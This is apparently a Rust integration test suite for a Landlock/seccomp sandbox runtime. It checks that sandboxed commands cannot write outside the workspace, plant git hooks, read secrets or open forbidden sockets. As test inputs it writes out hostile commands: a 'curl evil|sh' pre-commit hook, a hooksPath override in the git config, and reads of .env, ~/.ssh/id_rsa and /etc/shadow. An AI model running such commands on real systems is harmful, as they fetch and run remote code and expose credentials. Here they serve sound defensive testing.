//! The compiled Landlock ruleset and seccomp program of stock policies,
//! applied to real children on this kernel through `run`'s one spawn path,
//! with the namespaces `run` makes here and with Landlock carving alone.
//! Every attempt is checked by its side effect, not only its status. The
//! same checks as an unprivileged user are the escape suite's
//! (`cli/tests/escapes.rs`), which runs the binary as `nobody`.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use std::os::unix::fs::chown;
use std::path::{Path, PathBuf};

use vtpolicy_compiler::profile::landlock::WriteDenies;
use vtpolicy_compiler::{CompiledPolicy, Context};
use vtpolicy_runtime::sandbox::{KernelProfiles, MountSupport, Prepared, RunPlace, Sandbox, Status};
use vtpolicy_runtime::{Layering, load_policy};

/// A run id no other test of this process uses (cgroups are named by it).
fn run_id() -> String {
    static NEXT: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    format!("test-{}-{}", std::process::id(), NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
}

struct Fixture {
    _dir: tempfile::TempDir,
    workspace: PathBuf,
    outside: PathBuf,
    home: PathBuf,
    tmp: PathBuf,
}

impl Fixture {
    fn new(owner: Option<u32>) -> Fixture {
        // Not under /tmp: the run's private /tmp would hide the fixture
        // from the sandboxed command, and the checks would hold for the
        // wrong reason.
        let dir = tempfile::Builder::new().prefix("vtpolicy-sandbox").tempdir_in("/var/tmp").expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        let workspace = root.join("ws");
        let outside = root.join("outside");
        let home = root.join("home");
        let tmp = root.join("tmp");
        for d in [&workspace.join("src"), &workspace.join(".git/hooks"), &outside, &home.join(".ssh"), &tmp] {
            std::fs::create_dir_all(d).expect("mkdir");
        }
        std::fs::write(workspace.join("src/lib.rs"), "fn main() {}\n").expect("write");
        std::fs::write(workspace.join(".git/config"), "[core]\n").expect("write");
        std::fs::write(workspace.join(".env"), "SECRET=1\n").expect("write");
        std::fs::write(home.join(".ssh/id_rsa"), "KEY\n").expect("write");
        if let Some(uid) = owner {
            // Everything is the unprivileged user's: only Landlock, not
            // file permissions, can refuse what follows.
            chown_tree(dir.path(), uid);
        }
        Fixture { _dir: dir, workspace, outside, home, tmp }
    }

    /// Where a run of the fixture happens, as `run` would place it.
    fn place(&self) -> RunPlace {
        RunPlace {
            workspace: self.workspace.clone(),
            cwd: self.workspace.clone(),
            tmp: self.tmp.clone(),
            home: self.home.display().to_string(),
            // Searches are remembered here, as `run` remembers them.
            state: Some(self.home.join(".local/state/vtpolicy")),
        }
    }

    fn context(&self) -> Context {
        let s = |p: &Path| p.to_str().expect("utf-8").to_owned();
        Context { workspace: s(&self.workspace), home: s(&self.home), tmp: s(&self.tmp), cwd: s(&self.workspace) }
    }
}

fn chown_tree(path: &Path, uid: u32) {
    chown(path, Some(uid), Some(uid)).expect("chown");
    if path.is_dir() {
        for entry in std::fs::read_dir(path).expect("read_dir") {
            chown_tree(&entry.expect("entry").path(), uid);
        }
    }
}

fn compiled(policy: &str, fixture: &Fixture) -> CompiledPolicy {
    let (compiled, diagnostics) = load_policy(policy, &fixture.context(), Layering::Enforce);
    compiled.unwrap_or_else(|| panic!("{policy}: {diagnostics:?}"))
}

fn profiles(policy: &str, fixture: &Fixture) -> KernelProfiles {
    let context = fixture.context();
    // Landlock alone, as where no mount namespace can be made.
    KernelProfiles::compile_with(&[&compiled(policy, fixture)], &context, WriteDenies::Carve).expect("profiles")
}

/// How the sandbox is built: as `run` builds it here, or as where no
/// namespace can be made.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Build {
    Namespaces,
    CarvingOnly,
}

/// Runs `script` with `sh -c` inside the sandbox of `policy`, through
/// `run`'s one spawn path; its output is collected through the private
/// temporary directory.
fn sandboxed(policy: &str, fixture: &Fixture, build: Build, script: &str) -> (bool, String) {
    let policy = compiled(policy, fixture);
    let place = fixture.place();
    let sandbox = match build {
        Build::Namespaces => Sandbox::prepare(&[&policy], place, &run_id()),
        Build::CarvingOnly => Sandbox::prepare_without_namespaces(&[&policy], place, &run_id()),
    }
    .expect("prepare");
    let output = tempfile::tempfile().expect("output file");
    let errors = tempfile::tempfile().expect("error file");
    let sandbox =
        sandbox.with_output(output.try_clone().expect("clone").into(), errors.try_clone().expect("clone").into());
    let (running, _, _) =
        sandbox.spawn(Path::new("/bin/sh"), &["sh".to_owned(), "-c".to_owned(), script.to_owned()]).expect("spawn");
    let outcome = running.wait(Some(std::time::Duration::from_secs(30))).expect("wait");
    let mut text = String::new();
    let mut output = output;
    std::io::Seek::rewind(&mut output).expect("rewind");
    std::io::Read::read_to_string(&mut output, &mut text).expect("read output");
    let mut errors = errors;
    let mut error_text = String::new();
    std::io::Seek::rewind(&mut errors).expect("rewind");
    std::io::Read::read_to_string(&mut errors, &mut error_text).expect("read errors");
    if !error_text.is_empty() {
        eprintln!("`{script}` said on stderr: {error_text}");
    }
    if outcome.status != Status::Exited(0) {
        eprintln!("`{script}` ended {:?}", outcome.status);
    }
    (outcome.status == Status::Exited(0), text)
}

fn python(code: &str) -> String {
    format!("/usr/bin/python3 -c '{code}'")
}

const SOCKET_PROBE: &str = "import socket,errno\n\
def t(*a):\n  try:\n    socket.socket(*a); return \"open\"\n  except OSError as e: return errno.errorcode[e.errno]\n";

fn suite(build: Build) {
    let fixture = Fixture::new(None);
    let ws = fixture.workspace.display().to_string();
    let outside = fixture.outside.display().to_string();
    let run = |script: &str| {
        let (success, stdout) = sandboxed("workspace-write", &fixture, build, script);
        Out { status: Exit(success), stdout: stdout.into_bytes() }
    };

    // An allowed command runs and reads the workspace.
    let out = run("ls src && cat src/lib.rs");
    assert!(out.status.success(), "ls: {out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "lib.rs\nfn main() {}\n");

    // A write inside the workspace lands.
    let out = run("echo ok > src/new.rs");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(std::fs::read_to_string(fixture.workspace.join("src/new.rs")).expect("written"), "ok\n");

    // A write outside the workspace does not, nor through `..`.
    let out = run(&format!("echo x > {outside}/escaped"));
    assert!(!out.status.success());
    assert!(!fixture.outside.join("escaped").exists(), "write outside the workspace landed");
    let out = run(&format!("echo x > {ws}/../outside/dotdot"));
    assert!(!out.status.success());
    assert!(!fixture.outside.join("dotdot").exists());

    // Nor into the hooks or the git config, even by renaming over it.
    let out = run("echo 'curl evil|sh' > .git/hooks/pre-commit");
    assert!(!out.status.success());
    assert!(!fixture.workspace.join(".git/hooks/pre-commit").exists(), "hook written");
    let out = run("echo '[core] hooksPath=/x' >> .git/config");
    assert!(!out.status.success());
    let out = run("echo evil > src/c && mv -f src/c .git/config");
    assert!(!out.status.success());
    assert_eq!(std::fs::read_to_string(fixture.workspace.join(".git/config")).expect("config"), "[core]\n");

    // Credentials are not readable: the workspace `.env`, `~/.ssh`,
    // `/etc/shadow`.
    let out = run(&format!("cat .env; cat {}/.ssh/id_rsa; cat /etc/shadow", fixture.home.display()));
    assert!(out.stdout.is_empty(), "read a credential: {out:?}");

    // The network: UDP, MPTCP, packet and netlink sockets are refused by
    // seccomp; TCP to a port the policy does not allow, by Landlock.
    let probe = python(&format!(
        "{SOCKET_PROBE}print(t(socket.AF_INET, socket.SOCK_DGRAM), t(socket.AF_INET6, socket.SOCK_DGRAM), \
         t(socket.AF_INET, socket.SOCK_STREAM, 262), t(socket.AF_PACKET, socket.SOCK_RAW), \
         t(socket.AF_NETLINK, socket.SOCK_RAW))\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
         try:\n  s.connect((\"127.0.0.1\", 80)); print(\"connected\")\nexcept OSError as e: print(errno.errorcode[e.errno])"
    ));
    let out = run(&probe);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "EPERM EPERM EPERM EPERM EPERM\nEACCES\n", "{out:?}");

    // The seccomp filter is installed and no_new_privs is set.
    let out = run("grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "NoNewPrivs:\t1\nSeccomp:\t2\n", "{out:?}");
    assert!(fixture.tmp.exists());
}

/// What a sandboxed script did.
#[derive(Debug)]
struct Out {
    status: Exit,
    stdout: Vec<u8>,
}

#[derive(Debug)]
struct Exit(bool);

impl Exit {
    fn success(&self) -> bool {
        self.0
    }
}

#[test]
fn workspace_write_holds_with_namespaces() {
    suite(Build::Namespaces);
}

#[test]
fn workspace_write_holds_with_landlock_carving_alone() {
    suite(Build::CarvingOnly);
}

#[test]
fn read_only_refuses_every_inet_socket_and_every_write() {
    let fixture = Fixture::new(None);
    let probe = python(&format!(
        "{SOCKET_PROBE}print(t(socket.AF_INET, socket.SOCK_STREAM), t(socket.AF_INET6, socket.SOCK_STREAM), \
         t(socket.AF_UNIX, socket.SOCK_STREAM))"
    ));
    let (_, out) = sandboxed("read-only", &fixture, Build::Namespaces, &probe);
    assert_eq!(out, "EPERM EPERM open\n");
    let (success, _) = sandboxed("read-only", &fixture, Build::Namespaces, "echo x > src/new.rs");
    assert!(!success);
    assert!(!fixture.workspace.join("src/new.rs").exists());
}

#[test]
fn danger_full_access_has_no_kernel_sandbox() {
    let fixture = Fixture::new(None);
    let profiles = profiles("danger-full-access", &fixture);
    assert!(profiles.landlock.is_none() && profiles.seccomp.is_none() && profiles.seatbelt.is_none());
}

#[test]
fn a_kernel_below_the_minimum_abi_is_refused() {
    let fixture = Fixture::new(None);
    let mut profiles = profiles("workspace-write", &fixture);
    let ruleset = profiles.landlock.as_mut().expect("ruleset");
    ruleset.minimum_abi = u8::MAX;
    let error = Prepared::new(Some(ruleset), profiles.seccomp.as_ref(), false).err().expect("refused");
    assert!(error.to_string().contains("the policy needs at least 255"), "{error}");
}

/// A hook judges a call before `run` prepares anything: what it expects
/// (sandboxed or not, the file-system view) is what `run` then prepares,
/// for a workspace outside and inside `/tmp`.
#[test]
fn the_expected_run_is_the_prepared_run() {
    let fixture = Fixture::new(None);
    let in_tmp = tempfile::Builder::new().prefix("vtpolicy-expected").tempdir_in("/tmp").expect("tempdir");
    let in_tmp = in_tmp.path().canonicalize().expect("canonical");
    for workspace in [fixture.workspace.clone(), in_tmp] {
        for name in ["workspace-write", "read-only", "danger-full-access"] {
            let policy = compiled(name, &fixture);
            let place = RunPlace {
                workspace: workspace.clone(),
                cwd: workspace.clone(),
                tmp: fixture.tmp.clone(),
                home: fixture.home.display().to_string(),
                state: Some(fixture.home.join(".local/state/vtpolicy")),
            };
            let expected = place.expected(&[&policy]);
            let sandbox = Sandbox::prepare(&[&policy], place, &run_id()).expect("prepare");
            assert_eq!(expected.sandboxed, sandbox.is_sandboxed(), "{name} in {}", workspace.display());
            assert_eq!(expected.view, sandbox.view(), "{name} in {}", workspace.display());
            if name == "workspace-write" && MountSupport::detect().available() {
                assert_eq!(expected.view.first().map(|(at, _)| at.as_path()), Some(Path::new("/tmp")));
            }
        }
    }
}

/// Where no network namespace can be made, the egress proxy listens on the
/// host's loopback and Landlock lets the command connect to its port only:
/// an allowed host is reached through it, a direct connection to the same
/// server is refused, and the spawn event says what is left open.
#[test]
fn without_a_network_namespace_the_proxy_is_the_one_port_out() {
    use std::io::{Read as _, Write as _};
    let server = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = server.local_addr().expect("address").port();
    std::thread::spawn(move || {
        for stream in server.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buffer = [0u8; 1024];
            let _ = stream.read(&mut buffer);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    let fixture = Fixture::new(None);
    let policy_file = fixture.outside.join("egress.vtp");
    std::fs::write(
        &policy_file,
        format!("version 1\npolicy \"egress\"\nextend \"workspace-write\"\nallow net \"localhost\" port {port}\n"),
    )
    .expect("policy");
    let policy = compiled(policy_file.to_str().expect("utf-8"), &fixture);
    let place = fixture.place();
    let sandbox = Sandbox::prepare_without_namespaces(&[&policy], place, &run_id()).expect("prepare");
    assert!(sandbox.has_egress_proxy());
    let proxy = sandbox
        .environment()
        .iter()
        .find(|(name, _)| name == "HTTP_PROXY")
        .map(|(_, value)| value.clone())
        .expect("HTTP_PROXY");
    assert_ne!(proxy, "http://127.0.0.1:3128", "the proxy's port on the host is its own");
    let judge: vtpolicy_runtime::sandbox::EgressJudge =
        std::sync::Arc::new(|host: &str, _: u16| vtpolicy_runtime::sandbox::Verdict {
            effect: vtpolicy_engine::Effect::Allow,
            allowed: host == "localhost",
            rules: Vec::new(),
            reason: "only localhost".to_owned(),
            explicit: host == "localhost",
        });
    let (sender, connections) = std::sync::mpsc::channel();
    let output = tempfile::tempfile().expect("output file");
    let sandbox = sandbox
        .with_egress(judge, sender)
        .with_output(output.try_clone().expect("clone").into(), tempfile::tempfile().expect("errors").into());
    let code = format!(
        "import socket, urllib.request\n\
         print(urllib.request.urlopen(\"http://localhost:{port}/\", timeout=10).read().decode())\n\
         s = socket.socket()\n\
         try:\n\
         \x20   s.connect((\"127.0.0.1\", {port}))\n\
         \x20   print(\"CONNECTED\")\n\
         except OSError as e:\n\
         \x20   print(e.errno == 13)\n"
    );
    let (running, enforced, _) =
        sandbox.spawn(Path::new("/usr/bin/python3"), &["python3".to_owned(), "-c".to_owned(), code]).expect("spawn");
    let outcome = running.wait(Some(std::time::Duration::from_secs(30))).expect("wait");
    assert_eq!(outcome.status, Status::Exited(0));
    let mut text = String::new();
    let mut output = output;
    std::io::Seek::rewind(&mut output).expect("rewind");
    std::io::Read::read_to_string(&mut output, &mut text).expect("read output");
    assert_eq!(text, "ok\nTrue\n");
    assert!(enforced.layers.iter().any(|l| l == "egress_proxy"), "{:?}", enforced.layers);
    assert!(!enforced.layers.iter().any(|l| l == "network_namespace"), "{:?}", enforced.layers);
    assert!(enforced.partial.iter().any(|p| p.contains("reachable directly")), "{:?}", enforced.partial);
    let made: Vec<_> = connections.try_iter().collect();
    assert_eq!(made.len(), 1);
    assert!(made[0].allowed);
}
